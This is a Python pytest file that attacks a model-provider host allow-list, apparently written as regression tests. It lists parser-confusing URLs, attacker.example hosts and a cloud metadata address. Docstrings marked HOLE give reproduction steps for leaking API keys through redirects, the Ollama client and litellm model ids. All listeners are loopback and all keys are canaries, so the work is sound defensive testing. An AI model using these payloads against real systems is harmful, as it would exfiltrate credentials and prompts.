"""Attacks on where a spec's model requests may go (issue 33's fix, commit 61d6956).

The attacker may submit specs to a fleet whose workers hold OPENAI_API_KEY,
ANTHROPIC_API_KEY, GOOGLE_API_KEY and AWS credentials, and wants any of them (or, for a
provider that sends a key, any request at all) to reach a listener of theirs. Every
listener here is on 127.0.0.1 (a free port): nothing is sent anywhere else. Where an
attack needs "a public host the attacker owns", the test says so and resolves a test name
to the loopback listener in this process alone.

Each test is one attack. A test that passes is a regression test of a guard that held; a
test that fails is a hole, and its docstring says how to reproduce it by hand.
"""

from __future__ import annotations

import asyncio
import json
import os
import socket
import subprocess
import sys
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import httpx
import pytest
from helpers import REPO, wait_for
from helpers.fleet import durable_bin
from pydantic import ValidationError

from strands_durable.errors import ProviderError, SpecError
from strands_durable.models import SessionStatus
from strands_durable.provider_policy import ProviderPolicy
from strands_durable.sessions.start import start_session
from strands_durable.settings import describe_settings_error
from strands_durable.spec import provider_hosts
from strands_durable.spec.loader import LoadedSpec, load_spec_data
from strands_durable.spec.provider_hosts import (
    KEYED_PROVIDERS,
    Origin,
    judge_host,
    parse_base_url,
)
from strands_durable.store.store import Store
from strands_durable.worker.consumer import StepConsumer
from strands_durable.worker.providers import ModelConfig, build_model

KEYS = {"OPENAI_API_KEY": "sk-openai-canary-51f", "ANTHROPIC_API_KEY": "sk-ant-canary-51f",
        "GOOGLE_API_KEY": "google-canary-51f", "AWS_ACCESS_KEY_ID": "AKIACANARY51F",
        "AWS_SECRET_ACCESS_KEY": "aws-secret-canary-51f",
        "AWS_SESSION_TOKEN": "aws-token-canary-51f", "AWS_DEFAULT_REGION": "us-east-1"}
SECRETS = tuple(value for name, value in KEYS.items() if name != "AWS_DEFAULT_REGION")
HOST_PROVIDERS = ("openai", "anthropic", "gemini", "bedrock", "litellm", "ollama", "llamacpp")
MESSAGES = [{"role": "user", "content": [{"text": "a prompt of the fleet"}]}]


# --- the attacker's listener -------------------------------------------------------------


class Listener:
    """A loopback HTTP server recording (method, path, headers) of every request; with
    `redirect_to` it answers 307 to that base URL (same path), else a 500."""

    def __init__(self, redirect_to: str | None = None) -> None:
        self.requests: list[tuple[str, str, dict[str, str]]] = []
        seen = self.requests

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, format: str, *args: Any) -> None:
                pass

            def _any(self) -> None:
                length = int(self.headers.get("content-length") or 0)
                if length:
                    self.rfile.read(length)
                seen.append((self.command, self.path, dict(self.headers.items())))
                if redirect_to:
                    self.send_response(307)
                    self.send_header("Location", redirect_to + self.path)
                    self.send_header("Content-Length", "0")
                    self.end_headers()
                    return
                body = b'{"error": "nothing useful"}'
                self.send_response(500)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            do_GET = do_POST = do_PUT = _any

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        self.thread = threading.Thread(target=self.server.serve_forever, args=(0.05,),
                                       daemon=True)
        self.thread.start()

    def url(self, path: str = "") -> str:
        return f"http://127.0.0.1:{self.port}{path}"

    def secrets_heard(self) -> list[str]:
        return [value for value in SECRETS
                for _, _, headers in self.requests if value in json.dumps(headers)]

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()
        self.thread.join(timeout=5)


@pytest.fixture
def listener() -> Iterator[Listener]:
    seen = Listener()
    yield seen
    seen.close()


@pytest.fixture
def fleet_keys(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """The fleet's keys in this process, and no host listed for any provider."""
    for name, value in KEYS.items():
        monkeypatch.setenv(name, value)
    monkeypatch.delenv("GEMINI_API_KEY", raising=False)
    monkeypatch.setenv("LITELLM_LOCAL_MODEL_COST_MAP", "True")  # no fetch at import
    for provider in HOST_PROVIDERS:
        monkeypatch.delenv(f"DURABLE_{provider.upper()}_HOSTS", raising=False)
    provider_hosts.current_provider_policy.cache_clear()
    yield
    provider_hosts.current_provider_policy.cache_clear()


def spec_data(provider: str, host: str | None = None, *, model_id: str = "m",
              region: str | None = None, **extra: Any) -> dict[str, Any]:
    runtime: dict[str, Any] = {"provider": provider, "model_id": model_id,
                               "failure_policy": {"retries": 0}}
    if host is not None:
        runtime["host"] = host
    if region is not None:
        runtime["region"] = region
    return {"version": 0, "name": "attack", "runtime": runtime,
            "agents": {"a": {"prompt": "hi"}},
            "pattern": {"type": "chain", "config": {"steps": [{"agent": "a", "input": "go"}]}},
            **extra}


def assert_clear_refusal(error: BaseException, field: str = "runtime.host") -> None:
    text = str(error)
    assert field in text, text
    assert "\n" not in text and "Traceback" not in text, text
    for value in SECRETS:
        assert value not in text, text


async def call(model: Any) -> BaseException | None:
    """One model call; the error it ended with (the listener answers nothing useful)."""
    try:
        async def run() -> None:
            async for _ in model.stream(MESSAGES):
                pass

        await asyncio.wait_for(run(), 30)
    except Exception as exc:
        return exc
    return None


# --- 1. runtime.host spelled so that parsers disagree, for providers that send a key -----


def trick_hosts(port: int) -> list[str]:
    loop = f"127.0.0.1:{port}"
    return [
        f"http://{loop}/v1", f"http://localhost:{port}", f"http://localhost.:{port}",
        f"http://[::1]:{port}", f"http://[::ffff:7f00:1]:{port}", f"http://127.1:{port}",
        f"http://0x7f.1:{port}", f"http://2130706433:{port}", f"http://0:{port}",
        # userinfo: the official name before the @, the listener after it
        f"https://api.openai.com@{loop}/v1", f"https://api.openai.com:443@{loop}",
        f"https://api.anthropic.com%40{loop}", f"https://user:pass@{loop}",
        # backslashes, whitespace and control characters
        f"https://{loop}\\@api.openai.com/v1", f"https://api.openai.com\\@{loop}",
        f"https:\\\\{loop}", f"https://{loop}\t.api.openai.com", f"https://{loop}\n",
        f"https://api.openai.com\r\n@{loop}", f"https://\x00{loop}",
        # fragments, queries, ports and paths that hide the real authority
        f"https://{loop}#@api.openai.com", f"https://{loop}?@api.openai.com",
        f"https://{loop}/api.openai.com", f"https://api.openai.com:{port}",
        "http://api.openai.com/v1", "https://api.openai.com:80/v1",
        # schemes without an authority, relative forms
        f"http:/{loop}", f"http:{loop}", f"//{loop}", loop, f"HTTP://{loop}",
        f"https:/\\{loop}", f"file:///{loop}",
        # unicode dots, IDNA, percent-escapes, IPv6 zone ids
        f"http://127\u30020\u30020\u30021:{port}", f"http://127\uff0e0\uff0e0\uff0e1:{port}",
        f"http://localhost\u3002:{port}", f"http://%31%32%37.0.0.1:{port}",
        f"http://[fe80::1%25lo]:{port}", f"http://[::1%25lo]:{port}",
        "https://api.openai.com\u3002attacker.example", "https://api\u3002openai.com",
        "https://api.openai.com.attacker.example", "https://api.openai.comattacker.example",
        "https://bedrock-runtime.us-east-1.amazonaws.com.attacker.example",
        "https://bedrock-runtime.us-east-1.amazonaws.com:8443",
        f"https://bedrock-runtime.x.amazonaws.com@{loop}",
        "https://generativelanguage.googleapis.com.attacker.example",
        "x" * 5000, "",
    ]


@pytest.mark.usefixtures("fleet_keys")
@pytest.mark.parametrize("provider", sorted(KEYED_PROVIDERS))
def test_keyed_hosts_spelled_to_confuse_parsers_are_refused(provider: str,
                                                           listener: Listener) -> None:
    """Held: every spelling is refused at load naming runtime.host, one line, no key;
    the empty host means the provider's own endpoint."""
    for host in trick_hosts(listener.port):
        if not host and provider == "litellm":
            # No host: a litellm model id must name a fixed route (tested below).
            with pytest.raises(SpecError, match=r"runtime\.model_id"):
                load_spec_data(spec_data(provider, host))
            continue
        if not host:
            load_spec_data(spec_data(provider, host))
            continue
        with pytest.raises(SpecError) as info:
            load_spec_data(spec_data(provider, host))
        assert_clear_refusal(info.value)
        # ... and the worker's check, for a spec that reached Redis another way
        with pytest.raises(ProviderError) as built:
            build_model(ModelConfig(provider=provider, agent_id="a", model_id="m", host=host,
                                    region="us-east-1"), ProviderPolicy())
        assert_clear_refusal(built.value)
    assert listener.requests == []


def _connect_targets(url: str) -> dict[str, tuple[str, int]]:
    """Where each HTTP stack the providers use would connect for `url` as a base URL."""
    import yarl
    from urllib3.util import parse_url

    def default(scheme: str) -> int:
        return 443 if scheme.lower() == "https" else 80

    found: dict[str, tuple[str, int]] = {}
    parsed = httpx.URL(url)
    found["httpx (openai, anthropic, ollama, llamacpp)"] = (
        parsed.raw_host.decode().lower().rstrip("."), parsed.port or default(parsed.scheme))
    y = yarl.URL(url)
    found["yarl (aiohttp: gemini)"] = ((y.raw_host or "").lower().rstrip("."),
                                       y.port or default(y.scheme))
    u = parse_url(url)
    found["urllib3 (botocore: bedrock)"] = ((u.host or "").lower().rstrip("."),
                                            u.port or default(u.scheme or "http"))
    return found


def test_every_accepted_base_url_means_one_host_to_every_http_stack() -> None:
    """Held: of many spellings around the official names and loopback, each one
    parse_base_url accepts names the same host and port to httpx, yarl (aiohttp, which
    google-genai uses) and urllib3 (botocore), so the host judged is the host
    connected to."""
    pieces = ["", "@", ":", "/", "\\", ".", "\u3002", "\uff0e", "%2e", "%40", "[", "]",
              "#", "?", ";", ",", "\u00df", "\u0130", "K", "\u212a", "\u00ad", "\u200b",
              "127.0.0.1", ":443", ":11434", "//", "/..", "&", "=", "+", "$", "'", "*"]
    names = ["api.openai.com", "generativelanguage.googleapis.com",
             "bedrock-runtime.us-east-1.amazonaws.com", "localhost", "127.0.0.1"]
    checked = 0
    for name in names:
        for scheme in ("https://", "http://", "HTTPS://"):
            for a in pieces:
                for b in pieces:
                    for url in (f"{scheme}{a}{name}{b}", f"{scheme}{name}{a}{b}/v1",
                                f"{scheme}{name}:443{a}{b}"):
                        origin = parse_base_url(url)
                        if not isinstance(origin, Origin):
                            continue
                        checked += 1
                        for stack, target in _connect_targets(url).items():
                            assert target == (origin.host, origin.port), (url, stack, target)
    assert checked > 100


# --- 2. keyless servers: loopback by any name is refused, at load or where it connects ---


@pytest.mark.usefixtures("fleet_keys")
@pytest.mark.parametrize("provider", ["ollama", "llamacpp"])
def test_keyless_literal_loopback_and_private_hosts_are_refused_at_load(
        provider: str, listener: Listener) -> None:
    """Held: a literal private, loopback, link-local or unspecified address (in any
    IPv6 wrapping) and *.localhost names are refused at load naming the setting."""
    port = listener.port
    for host in (f"http://127.0.0.1:{port}", f"http://127.0.0.2:{port}",
                 f"http://[::1]:{port}", f"http://[::ffff:127.0.0.1]:{port}",
                 f"http://[::ffff:7f00:1]:{port}", f"http://[64:ff9b::7f00:1]:{port}",
                 f"http://[2002:7f00:1::]:{port}", f"http://0.0.0.0:{port}",
                 f"http://[::]:{port}", f"http://localhost:{port}",
                 f"http://LOCALHOST.:{port}", f"http://evil.localhost:{port}",
                 "http://169.254.169.254/latest", "http://[fd00::1]:80", "http://10.0.0.1"):
        with pytest.raises(SpecError) as info:
            load_spec_data(spec_data(provider, host))
        assert_clear_refusal(info.value)
        assert f"DURABLE_{provider.upper()}_HOSTS" in str(info.value)
    assert listener.requests == []


@pytest.mark.usefixtures("fleet_keys")
@pytest.mark.parametrize("provider", ["ollama", "llamacpp"])
async def test_keyless_names_that_resolve_to_loopback_are_refused_where_they_connect(
        provider: str, listener: Listener) -> None:
    """Held: names that are loopback only once resolved pass the load (no literal to
    judge) and are refused by the network guard where the socket opens."""
    if provider == "ollama":
        pytest.importorskip("ollama")
    port = listener.port
    names = ["127.1", "0x7f.1", "0177.0.0.1", "2130706433", "0", "127.0.0.1."]
    for extra in (socket.gethostname, lambda: socket.gethostbyaddr("127.0.0.1")[0]):
        try:  # a name of this machine, only where it is loopback alone
            name = extra()
            if all(str(info[4][0]).startswith("127.") or str(info[4][0]) == "::1"
                   for info in socket.getaddrinfo(name, port)):
                names.append(name)
        except OSError:
            pass
    for name in names:
        host = f"http://{name}:{port}"
        verdict = judge_host(provider, host, ())
        if not verdict.allowed:
            continue  # refused already at load: the test above
        assert verdict.guarded, host
        model = build_model(ModelConfig(provider=provider, agent_id="a", model_id="m",
                                        host=host), ProviderPolicy())
        error = await call(model)
        assert error is not None, host
    assert listener.requests == []


@pytest.mark.usefixtures("fleet_keys")
async def test_a_keyless_public_host_cannot_redirect_the_worker_to_loopback(
        monkeypatch: pytest.MonkeyPatch) -> None:
    """Held: the attacker's public server (a test name resolved to a loopback listener
    standing in for it) answers 307 to another loopback port; the guard checks the hop
    where it connects and the second listener hears nothing."""
    pytest.importorskip("ollama")
    from strands_durable.worker.tools import net_guard

    target = Listener()
    public = Listener(redirect_to=target.url())
    real = net_guard.resolve_allowed

    def resolve(host: str, port: int, policy: Any) -> list[Any]:
        if host.rstrip(".") == "attacker-public.test":
            import ipaddress
            return [ipaddress.ip_address("127.0.0.1")]  # stands in for a public address
        return real(host, port, policy)

    monkeypatch.setattr(net_guard, "resolve_allowed", resolve)
    try:
        host = f"http://attacker-public.test:{public.port}"
        assert judge_host("ollama", host, ()).guarded
        model = build_model(ModelConfig(provider="ollama", agent_id="a", model_id="m",
                                        host=host), ProviderPolicy())
        assert await call(model) is not None
        assert len(public.requests) >= 1
        assert target.requests == []
    finally:
        public.close()
        target.close()


@pytest.mark.usefixtures("fleet_keys")
async def test_hole_ollama_sends_ollama_api_key_to_any_public_host_a_spec_names(
        monkeypatch: pytest.MonkeyPatch) -> None:
    """HOLE (where the fleet uses Ollama's cloud, OLLAMA_API_KEY set). ollama is treated
    as keyless, so a spec may name any public host; but the ollama client reads
    OLLAMA_API_KEY itself and sends `Authorization: Bearer <key>` to whatever host it
    is given. Reproduce: OLLAMA_API_KEY=k, a spec with runtime {provider: ollama,
    model_id: m, host: https://<attacker's public host>}: it loads, and the attacker's
    server receives the key. (Here the attacker's public host is a test name resolved
    to the loopback listener.)"""
    pytest.importorskip("ollama")
    from strands_durable.worker.tools import net_guard

    monkeypatch.setenv("OLLAMA_API_KEY", "ollama-canary-51f")
    attacker = Listener()
    real = net_guard.resolve_allowed

    def resolve(host: str, port: int, policy: Any) -> list[Any]:
        if host.rstrip(".") == "attacker-public.test":
            import ipaddress
            return [ipaddress.ip_address("127.0.0.1")]
        return real(host, port, policy)

    monkeypatch.setattr(net_guard, "resolve_allowed", resolve)
    try:
        host = f"http://attacker-public.test:{attacker.port}"
        load_spec_data(spec_data("ollama", host))  # accepted: a public keyless host
        model = build_model(ModelConfig(provider="ollama", agent_id="a", model_id="m",
                                        host=host), ProviderPolicy())
        await call(model)
        heard = [headers.get("authorization", headers.get("Authorization", ""))
                 for _, _, headers in attacker.requests]
        assert not any("ollama-canary-51f" in value for value in heard), heard
    finally:
        attacker.close()


@pytest.mark.usefixtures("fleet_keys")
@pytest.mark.parametrize("provider", ["ollama", "llamacpp"])
async def test_proxy_variables_do_not_route_a_keyless_request_around_the_guard(
        provider: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """Held: with HTTP(S)_PROXY/ALL_PROXY pointing at a listener, the guarded clients
    still connect themselves (a transport given: httpx ignores the proxy variables), so
    a proxy cannot reach loopback on the spec's behalf."""
    if provider == "ollama":
        pytest.importorskip("ollama")
    proxy = Listener()
    try:
        for name in ("HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "http_proxy", "https_proxy"):
            monkeypatch.setenv(name, proxy.url())
        model = build_model(ModelConfig(provider=provider, agent_id="a", model_id="m",
                                        host="http://127.1:9"), ProviderPolicy())
        assert await call(model) is not None
        assert proxy.requests == []
    finally:
        proxy.close()


# --- 3. redirects from a listed (or official) host ----------------------------------------


# Known, not fixed yet: keyed providers' SDKs follow a redirect from an allowed host to any
# other (docs/spec-format.md: Where a spec's model requests may go); botocore does not.
REDIRECT_HOLE = pytest.mark.xfail(strict=True, reason="keyed SDKs follow redirects")


@pytest.mark.usefixtures("fleet_keys")
@pytest.mark.parametrize("provider", ["openai", "anthropic",
                                      pytest.param("gemini", marks=REDIRECT_HOLE), "bedrock"])
async def test_hole_a_listed_host_redirects_the_key_to_an_unlisted_one(
        provider: str, allow_provider_host: Any) -> None:
    """HOLE for gemini: the operator lists a gateway (DURABLE_GEMINI_HOSTS); it (or
    any path on it, or on generativelanguage.googleapis.com, that answers a redirect)
    answers 307 to a host nobody listed, and google-genai's aiohttp follows it with the
    `x-goog-api-key` header: GOOGLE_API_KEY reaches the unlisted listener. openai and
    anthropic drop their key on the cross-origin hop (httpx drops Authorization,
    anthropic its x-api-key): they are the next test. Bedrock does not follow.
    Reproduce: DURABLE_GEMINI_HOSTS=http://127.0.0.1:P1, a server on P1 answering
    `307 Location: http://127.0.0.1:P2/...`, a spec {provider: gemini, host:
    http://127.0.0.1:P1}: the server on P2 receives x-goog-api-key."""
    if provider == "gemini":
        pytest.importorskip("google.genai")
    sink = Listener()
    gateway = Listener(redirect_to=sink.url())
    try:
        allow_provider_host(provider, gateway.url())
        load_spec_data(spec_data(provider, gateway.url(), region="us-east-1"))
        model = build_model(ModelConfig(provider=provider, agent_id="a", model_id="m",
                                        host=gateway.url(), region="us-east-1"))
        await call(model)
        assert gateway.requests, "the listed gateway was called"
        assert sink.secrets_heard() == [], sink.requests
    finally:
        gateway.close()
        sink.close()


@pytest.mark.usefixtures("fleet_keys")
@pytest.mark.parametrize("provider", [*(pytest.param(name, marks=REDIRECT_HOLE) for name in (
    "openai", "anthropic", "gemini")), "bedrock"])
async def test_hole_a_keyed_provider_follows_a_redirect_to_an_unlisted_host(
        provider: str, allow_provider_host: Any) -> None:
    """HOLE (openai, anthropic, gemini): after a redirect from a listed host, the
    keyed provider's request (the whole prompt; gemini's key too, above) goes on to a
    host the operator never listed: "calls only its official endpoint or a listed base
    URL" does not hold past the first hop. Reproduce as above with provider openai or
    anthropic: the server on P2 receives POST /chat/completions (or /v1/messages) with
    the conversation."""
    if provider == "gemini":
        pytest.importorskip("google.genai")
    sink = Listener()
    gateway = Listener(redirect_to=sink.url())
    try:
        allow_provider_host(provider, gateway.url())
        model = build_model(ModelConfig(provider=provider, agent_id="a", model_id="m",
                                        host=gateway.url(), region="us-east-1"))
        await call(model)
        assert gateway.requests
        assert sink.requests == [], sink.requests
    finally:
        gateway.close()
        sink.close()


# --- 4. a listed base URL's path ----------------------------------------------------------


@pytest.mark.usefixtures("fleet_keys")
@pytest.mark.parametrize("provider", ["openai", "anthropic", "gemini"])
async def test_hole_dot_segments_escape_the_listed_path(provider: str, listener: Listener,
                                                        allow_provider_host: Any) -> None:
    """HOLE (low: same host): a listed base URL allows "the paths under its path", but
    `/tenant-a/../admin` is "under" /tenant-a to Origin.covers and is /admin to the
    SDKs (httpx, yarl normalise dot segments; yarl also decodes %2e%2e). Reproduce:
    DURABLE_OPENAI_HOSTS=http://127.0.0.1:P/tenant-a and runtime.host
    http://127.0.0.1:P/tenant-a/../admin: the key goes to /admin/chat/completions."""
    if provider == "gemini":
        pytest.importorskip("google.genai")
    allow_provider_host(provider, listener.url("/tenant-a"))
    escaped: list[str] = []
    for suffix in ("/tenant-a/../admin", "/tenant-a/./../admin", "/tenant-a/%2e%2e/admin"):
        host = listener.url(suffix)
        try:
            load_spec_data(spec_data(provider, host))
        except SpecError as exc:
            assert_clear_refusal(exc)
            continue
        listener.requests.clear()
        await call(build_model(ModelConfig(provider=provider, agent_id="a", model_id="m",
                                           host=host)))
        escaped += [path for _, path, _ in listener.requests
                    if not path.startswith("/tenant-a/")]
    assert escaped == []


# --- 5. litellm: the model id picks the endpoint ------------------------------------------


LITELLM_ROUTES = [
    # the model id carries the base URL: a request to any address, no guard
    "oobabooga/http://127.0.0.1:{port}",
    # loopback defaults of local-server providers
    "llamafile/m", "lemonade/m", "docker_model_runner/m",
    # third parties that get the fleet's OPENAI_API_KEY when their own key is unset
    "kyma/m", "deepinfra/m", "zai/m", "moonshot/m", "baseten/m", "nvidia_nim/m",
]


@pytest.mark.usefixtures("fleet_keys")
@pytest.mark.parametrize("route", LITELLM_ROUTES)
def test_hole_litellm_model_id_picks_where_requests_and_keys_go(route: str,
                                                                listener: Listener) -> None:
    """HOLE (high). With no runtime.host the litellm provider is allowed ("LiteLLM routes
    by model id"), and the model id is the spec's: `oobabooga/http://127.0.0.1:P` makes
    the worker POST the conversation to any URL (loopback, 169.254.169.254, the fleet's
    private services) with no network guard; `llamafile/m`, `lemonade/m`, ... reach
    loopback ports; and ~40 OpenAI-compatible third parties (kymaapi.com, deepinfra,
    api.z.ai, moonshot, baseten, nvidia, ...) receive the fleet's OPENAI_API_KEY as their
    Bearer token, litellm's fallback when their own key is unset. Reproduce: a spec
    {provider: litellm, model_id: "oobabooga/http://127.0.0.1:P"} loads, and a worker
    with litellm installed sends the step's prompt to the listener on P (the next
    test). A summarization_model is the same model id in another field."""
    model_id = route.format(port=listener.port)
    with pytest.raises(SpecError) as info:
        load_spec_data(spec_data("litellm", model_id=model_id))
    assert "model_id" in str(info.value)
    with pytest.raises(ProviderError):
        build_model(ModelConfig(provider="litellm", agent_id="a", model_id=model_id),
                    ProviderPolicy())


@pytest.mark.usefixtures("fleet_keys")
def test_hole_litellm_summarization_model_picks_the_endpoint(listener: Listener) -> None:
    """HOLE (as above): context_policy.compaction.summarization_model is built with the
    agent's provider and host and this model id (worker/execute.py _compact)."""
    data = spec_data("litellm", model_id="openai/gpt-4o-mini", context_policy={
        "compaction": {"enabled": True,
                       "summarization_model": f"oobabooga/http://127.0.0.1:{listener.port}"}})
    with pytest.raises(SpecError) as info:
        load_spec_data(data)
    assert "summarization_model" in str(info.value)


@pytest.mark.usefixtures("fleet_keys")
async def test_hole_litellm_model_id_reaches_the_listener(listener: Listener) -> None:
    """HOLE, end to end where litellm is installed: the spec loads, the model is built
    with the operator listing nothing, and the listener receives the step's prompt."""
    pytest.importorskip("litellm")
    model_id = f"oobabooga/http://127.0.0.1:{listener.port}"
    try:
        load_spec_data(spec_data("litellm", model_id=model_id))
        model = build_model(ModelConfig(provider="litellm", agent_id="a", model_id=model_id),
                            ProviderPolicy())
    except (SpecError, ProviderError) as exc:
        assert_clear_refusal(exc, "model_id")
        return
    await call(model)
    assert listener.requests == [], listener.requests


# --- 6. other ways to name a provider or a region ----------------------------------------


@pytest.mark.usefixtures("fleet_keys")
def test_provider_overrides_and_regions_cannot_route_around_the_check(
        listener: Listener) -> None:
    """Held: an agent's own provider under a scripted runtime, `--provider` (the loader's
    `provider`), odd provider spellings, and bedrock regions that are not one label."""
    host = listener.url("/v1")
    agent_override = spec_data("scripted", host)
    agent_override["agents"]["a"].update(provider="openai", model_id="m")
    for data, override, field in [
        (agent_override, None, "runtime.host"),
        (spec_data("scripted", host), "anthropic", "runtime.host"),
        (spec_data("OpenAI", host), None, "runtime.provider"),
        (spec_data("openai ", host), None, "runtime.provider"),
        (spec_data("bedrock", region=f"us-east-1.127.0.0.1:{listener.port}"), None,
         "runtime.region"),
        (spec_data("bedrock", region="us-east-1/../x"), None, "runtime.region"),
        (spec_data("bedrock", region=f"x@127.0.0.1:{listener.port}"), None, "runtime.region"),
        (spec_data("bedrock", region="US-EAST-1"), None, "runtime.region"),
    ]:
        with pytest.raises(SpecError) as info:
            load_spec_data(data, provider=override)
        assert_clear_refusal(info.value, field)
    with pytest.raises(ProviderError) as built:
        build_model(ModelConfig(provider="bedrock", agent_id="a", model_id="m",
                                region=f"us-east-1.127.0.0.1:{listener.port}"))
    assert_clear_refusal(built.value, "runtime.region")
    assert listener.requests == []


@pytest.mark.usefixtures("fleet_keys")
@pytest.mark.parametrize("provider", ["openai", "gemini"])
def test_model_ids_cannot_move_a_keyed_providers_host(provider: str) -> None:
    """Held: openai sends the model id in the body; google-genai puts it in the path of
    a URL whose authority it keeps (join_url_path), so no model id changes the host."""
    if provider == "gemini":
        pytest.importorskip("google.genai")
        from google.genai._api_client import join_url_path

        for model_id in ("//127.0.0.1:9/x", "@127.0.0.1:9", "http://127.0.0.1:9/v1",
                         "x#@127.0.0.1:9", "\\\\127.0.0.1:9\\x"):
            url = join_url_path("https://generativelanguage.googleapis.com/",
                                f"v1beta/models/{model_id}:generateContent")
            for stack, target in _connect_targets(url).items():
                assert target == ("generativelanguage.googleapis.com", 443), (model_id, stack)
    else:
        load_spec_data(spec_data(provider, model_id="http://127.0.0.1:9/v1"))


@pytest.mark.usefixtures("fleet_keys")
def test_hole_the_operators_list_is_echoed_to_every_spec_author(
        monkeypatch: pytest.MonkeyPatch) -> None:
    """HOLE (low, disclosure): a refusal quotes the operator's whole DURABLE_<P>_HOSTS to
    whoever submitted the spec (API 422, CLI), internal gateway names included; and an
    entry with a query string is accepted by the setting's validation though it can
    never match (parse_base_url refuses queries), so a token an operator put there is
    quoted too. Reproduce: DURABLE_OPENAI_HOSTS='https://gw.internal/openai?api-key=S'
    and any refused openai runtime.host: the 422 message contains S."""
    monkeypatch.setenv("DURABLE_OPENAI_HOSTS",
                       "https://llm-gw.corp.internal:8443/openai?api-key=operator-secret-51f")
    provider_hosts.current_provider_policy.cache_clear()
    try:
        with pytest.raises(SpecError) as info:
            load_spec_data(spec_data("openai", "https://attacker.example/v1"))
    except ValidationError as exc:  # the setting refused where it is read: fine too
        # What every role prints when its settings are refused (a raw ValidationError is
        # never shown: the roles describe it).
        assert "operator-secret-51f" not in describe_settings_error(exc)
        return
    assert "operator-secret-51f" not in str(info.value), str(info.value)


# --- 7. the API and the CLI answer one clear line, and the worker checks again ------------


@pytest.mark.integration
@pytest.mark.usefixtures("fleet_keys")
async def test_the_api_answers_422_naming_the_field_for_every_trick(
        client: httpx.AsyncClient, store: Store, listener: Listener) -> None:
    """Held: never a 500, never a key in the answer, nothing stored."""
    for provider in ("openai", "gemini", "bedrock", "ollama"):
        for host in [*trick_hosts(listener.port)[:34], f"https://k:{KEYS['OPENAI_API_KEY']}"
                     f"@127.0.0.1:{listener.port}"]:
            if not host or "\x00" in host:
                continue
            r = await client.post("/v1/sessions", json={"spec": spec_data(provider, host)})
            if provider == "ollama" and r.status_code == 201:
                continue  # a keyless host the guard judges where it connects
            assert r.status_code == 422, (provider, host, r.status_code, r.text)
            assert "runtime.host" in r.json()["error"]["message"], r.text
            for value in SECRETS:
                assert value not in r.text, (host, r.text)
    r = await client.post("/v1/sessions", json={"spec": spec_data("openai", "http://\x00x")})
    assert r.status_code == 422, r.text
    assert listener.requests == []


@pytest.mark.integration
@pytest.mark.usefixtures("fleet_keys")
async def test_api_resume_with_a_new_spec_is_checked(client: httpx.AsyncClient,
                                                     listener: Listener) -> None:
    """Held: a resume carrying a new spec is loaded (and refused) like a submit."""
    good = spec_data("scripted")
    r = await client.post("/v1/sessions", json={"spec": good})
    assert r.status_code == 201, r.text
    sid = r.json()["session_id"]
    for provider in ("openai", "anthropic", "litellm"):
        bad = spec_data(provider, listener.url("/v1"))
        r = await client.post(f"/v1/sessions/{sid}/resume", json={"spec": bad})
        assert r.status_code == 422, r.text
        assert "runtime.host" in r.json()["error"]["message"]
    assert listener.requests == []


@pytest.mark.integration
@pytest.mark.usefixtures("fleet_keys")
@pytest.mark.parametrize("host", ["https://api.openai.com@127.0.0.1:{port}/v1",
                                  "http://127.0.0.1:{port}/v1", "http://127.1:{port}/v1"])
async def test_a_spec_written_to_redis_directly_is_refused_by_the_worker(
        host: str, listener: Listener, store: Store, consumer: StepConsumer) -> None:
    """Held: a spec that never passed the load check (written as it is to the session)
    fails its one step at once, naming runtime.host, and nothing is sent."""
    url = host.format(port=listener.port)
    loaded = load_spec_data(spec_data("scripted"))
    runtime = loaded.spec.runtime.model_copy(update={"provider": "openai", "host": url})
    spec = loaded.spec.model_copy(update={"runtime": runtime})
    sid, _ = await start_session(store, LoadedSpec(spec=spec, text=loaded.text,
                                                   source="direct", spec_hash=loaded.spec_hash,
                                                   variables=loaded.variables))

    async def failed() -> bool:
        return (await store.get_session(sid)).status == SessionStatus.FAILED

    await wait_for(failed, what="the session to fail")
    error = (await store.get_session(sid)).error or ""
    assert "runtime.host" in error, error
    events = json.dumps([fields for _, fields in await store.events(sid)])
    for value in SECRETS:
        assert value not in error and value not in events
    assert listener.requests == []


def _durable(*args: str, extra_env: dict[str, str] | None = None
             ) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("DURABLE_")}
    env.update(KEYS)
    env.update(extra_env or {})
    return subprocess.run([*durable_bin(), *args], cwd=REPO, env=env, capture_output=True,
                          text=True, timeout=120)


@pytest.mark.usefixtures("fleet_keys")
def test_the_cli_refuses_with_exit_2_and_one_line(tmp_path: Path, listener: Listener) -> None:
    """Held: `durable validate` and `durable run` refuse a trick host with exit 2, one
    error, no traceback, no key; a bad --allow-host is a usage error too."""
    spec = tmp_path / "attack.json"
    for host in (f"https://api.openai.com@127.0.0.1:{listener.port}",
                 f"http://127\u30020\u30020\u30021:{listener.port}",
                 f"https://127.0.0.1:{listener.port}\\@api.openai.com"):
        spec.write_text(json.dumps(spec_data("openai", host)))
        for command in (["validate", str(spec)], ["run", str(spec), "--ephemeral"]):
            done = _durable(*command)
            assert done.returncode == 2, (command, done.stdout, done.stderr)
            assert "runtime.host" in done.stderr and "Traceback" not in done.stderr
            for value in SECRETS:
                assert value not in done.stderr + done.stdout
    spec.write_text(json.dumps(spec_data("openai", listener.url("/v1"))))
    done = _durable("validate", str(spec), "--allow-host", "http://127.0.0.1:1@x")
    assert done.returncode == 2 and "--allow-host" in done.stderr
    assert "Traceback" not in done.stderr
    assert listener.requests == []


@pytest.mark.integration
@pytest.mark.usefixtures("fleet_keys")
def test_allow_host_is_refused_where_the_fleet_runs_the_steps(
        tmp_path: Path, listener: Listener, settings: Any) -> None:
    """Held: `durable resume --allow-host` against the fleet's Redis is a usage error
    (the grant would be this process's, the steps the fleet's)."""
    done = _durable("resume", "00000000-0000-4000-8000-000000000000", "--allow-host",
                    listener.url(), extra_env={"DURABLE_REDIS_URL": settings.redis_url,
                                               "DURABLE_KEY_PREFIX": settings.key_prefix})
    assert done.returncode == 2, (done.stdout, done.stderr)
